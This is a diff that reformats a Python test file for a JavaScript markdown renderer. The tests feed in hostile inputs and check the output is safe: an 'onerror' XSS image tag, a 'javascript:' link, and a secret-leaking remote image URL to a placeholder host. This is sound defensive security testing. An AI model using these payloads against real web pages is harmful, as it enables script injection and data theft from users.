@@ -16,18 +16,22 @@ pytestmark = pytest.mark.skipif(NODE is None, reason="needs node")
 
 
 def run_js(body: str) -> object:
-    script = (f"await import({json.dumps((ASSETS / 'kandev_lib.js').as_uri())});\n"
-              "const L = globalThis.__kandevNb;\n" + body)
+    script = (
+        f"await import({json.dumps((ASSETS / 'kandev_lib.js').as_uri())});\nconst L = globalThis.__kandevNb;\n" + body
+    )
     assert NODE is not None
-    out = subprocess.run([NODE, "--input-type=module", "-e", script], capture_output=True, text=True, timeout=60,
-                         check=True)
+    out = subprocess.run(
+        [NODE, "--input-type=module", "-e", script], capture_output=True, text=True, timeout=60, check=True
+    )
     return json.loads(out.stdout)
 
 
 def test_markdown_is_safe_and_highlighted() -> None:
-    html = run_js('console.log(JSON.stringify(L.renderMarkdown('
-                  '"<img src=x onerror=alert(1)>\\n\\n[a](javascript:alert(1)) [b](https://x.org)\\n\\n'
-                  '```python\\ndef f(): pass\\n```\\n\\n| a |\\n|---|\\n| 1 |\\n")))')
+    html = run_js(
+        "console.log(JSON.stringify(L.renderMarkdown("
+        '"<img src=x onerror=alert(1)>\\n\\n[a](javascript:alert(1)) [b](https://x.org)\\n\\n'
+        '```python\\ndef f(): pass\\n```\\n\\n| a |\\n|---|\\n| 1 |\\n")))'
+    )
     assert isinstance(html, str)
     assert "<img" not in html and "&lt;img" in html
     assert "javascript:" not in html and 'href="https://x.org"' in html
@@ -52,8 +56,10 @@ console.log(JSON.stringify({{ends, whole: L.stableEnd(text, 0)}}));
 
 
 def test_the_live_renderer_shows_remote_images_as_links() -> None:
-    html = run_js('console.log(JSON.stringify(L.renderMarkdown('
-                  '"![x](http://host/leak?k=SECRET) ![y](pic.png) ![z](data:image/png;base64,iVBORw0KGgo=)")))')
+    html = run_js(
+        "console.log(JSON.stringify(L.renderMarkdown("
+        '"![x](http://host/leak?k=SECRET) ![y](pic.png) ![z](data:image/png;base64,iVBORw0KGgo=)")))'
+    )
     assert isinstance(html, str)
     assert 'href="http://host/leak?k=SECRET"' in html and 'href="pic.png"' in html
     assert html.count("<img") == 1 and '<img src="data:image/png;base64,' in html  # inline data fetches nothing
